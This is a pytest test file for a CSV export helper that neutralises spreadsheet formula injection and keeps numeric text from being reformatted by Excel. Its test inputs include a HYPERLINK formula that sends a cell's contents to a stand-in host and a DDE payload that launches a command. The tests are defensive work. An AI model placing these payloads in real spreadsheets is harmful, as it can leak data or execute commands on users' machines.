"""CSV for people: texts are never formulas, numbers stay numbers, and 1.10 is not 1.1."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from graph.exports.sheets import csv_head, csv_line


def read(line: str) -> str:
    [[cell]] = csv.reader(io.StringIO(line))
    return cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.invalid/?"&A1,"台账")',
        "+1+cmd|' /C calc'!A0",
        "-2+3认识不到位",
        "@SUM(1+1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "＝1+1",
        "－1+2",
        "+",
        "-",
        "=",
        "-1,2",
        "--5",
        "@",
    ],
)
def test_a_formula_is_text(text: str) -> None:
    assert read(csv_line([text])) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["-5", "+3.2%", "-1,234.50", "1.10", "一、=甲", "5=5", "", "'甲", "“=”", "甲\n=乙", '说"不"']
)
def test_all_else_is_as_it_was(text: str) -> None:
    assert read(csv_line([text])) == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        ("", '""'),
        (1.1, "1.1"),
        (-5, "-5"),
        ("1.10", '"1.10"'),
        ("-5", '"-5"'),
        (1e20, "1e+20"),
        (True, '"true"'),
        (["=甲", 1], '"[""=甲"", 1]"'),
        ({"=a": 1}, '"{""=a"": 1}"'),
    ],
)
def test_only_texts_are_quoted(value: Any, cell: str) -> None:
    assert csv_line([value]) == cell


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("1.10", True),
        ("10.0", True),
        ("007", True),
        ("1-2", True),
        ("3/4", True),
        ("1.2.3", True),
        ("2023-05", True),
        ("1E5", True),
        ("12345678901234567890", True),
        ("1.1", False),
        ("10", False),
        ("0", False),
        ("2024-04-12", False),
        ("第1.10条", False),
        ("0.5", False),
    ],
)
def test_excel_is_kept_from_making_other_numbers(text: str, kept: bool) -> None:
    assert read(csv_line([text], excel=True)) == ("\t" * kept + text)
    assert read(csv_line(["=1"], excel=True)) == "'=1"


def test_the_head_is_quoted_where_it_must_be() -> None:
    assert csv_head(["id", "=1+1", "a,b", "问题"]) == """id,"'=1+1","a,b",问题"""
    assert csv_head(["id"], excel=True) == "\ufeffid"
